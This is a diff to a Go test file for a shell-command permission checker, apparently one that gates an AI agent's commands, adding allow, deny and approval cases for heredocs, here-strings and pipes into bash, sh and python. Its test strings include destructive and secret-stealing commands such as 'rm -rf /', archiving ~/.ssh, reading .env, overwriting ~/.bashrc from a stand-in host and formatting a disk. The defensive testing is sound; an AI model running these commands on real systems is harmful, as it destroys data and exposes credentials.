@@ -117,6 +117,8 @@ func TestDecideBash(t *testing.T) {
 		{name: "git commit heredoc", cmd: "git commit -m \"$(cat <<'EOF'\nfix: things\nEOF\n)\"", want: Allow},
 		{name: "bash -c allowed", cmd: "bash -c 'go vet ./... && go test ./...'", want: Allow},
 		{name: "env example", cmd: "cat .env.example", want: Allow},
+		{name: "heredoc to bash allowed", cmd: "bash <<'EOF'\nls\ngo vet ./...\nEOF", want: Allow},
+		{name: "python script in pipe", cmd: "ls | python3 tools/count.py", want: Allow},
 		{name: "cd inside project", cmd: "cd src && rm -rf build && go test ./...", want: Allow},
 
 		// Bypass attempts.
@@ -180,6 +182,9 @@ func TestDecideBash(t *testing.T) {
 		{name: "tar secrets", cmd: "tar czf keys.tgz ~/.ssh", want: Deny},
 		{name: "cut dotenv", cmd: "cut -c1- .env", want: Deny},
 		{name: "curl output bashrc", cmd: "curl -o ~/.bashrc https://x.example/rc", want: Deny},
+		{name: "heredoc to bash", cmd: "bash <<'EOF'\nls\nrm -rf /\nEOF", want: Deny},
+		{name: "here-string to sh", cmd: "sh <<< 'rm -rf /'", want: Deny},
+		{name: "dynamic heredoc to bash", cmd: "bash <<EOF\n$CMD\nEOF", want: Deny, reason: ReasonDynamic},
 		{name: "dd", cmd: "dd if=/dev/zero of=disk.img bs=1M count=1", want: Deny},
 		{name: "mkfs", cmd: "mkfs.ext4 /dev/sda1", want: Deny},
 		{name: "shred", cmd: "shred -u main.go", want: Deny},
@@ -219,6 +224,9 @@ func TestDecideBash(t *testing.T) {
 		{name: "git pager", cmd: "GIT_PAGER='rm -rf ~' git log", want: RequireApproval},
 		{name: "git -c", cmd: "git -c core.pager='sh -c x' log", want: RequireApproval},
 		{name: "env LD_PRELOAD", cmd: "env LD_PRELOAD=./x.so ls", want: RequireApproval},
+		{name: "echo piped to sh", cmd: "echo 'rm -rf /' | sh", want: RequireApproval},
+		{name: "python heredoc", cmd: "python3 - <<'EOF'\nprint(1)\nEOF", want: RequireApproval},
+		{name: "cat piped to python", cmd: "cat x.py | python3", want: RequireApproval},
 		{name: "curl", cmd: "curl -s https://example.com -o out.html", want: RequireApproval},
 		{name: "ask and deny is deny", cmd: "git push; rm -rf /", want: Deny},
 		{name: "ask and default deny is deny", cmd: "git push; frobnicate", want: Deny, reason: ReasonDefaultDeny},
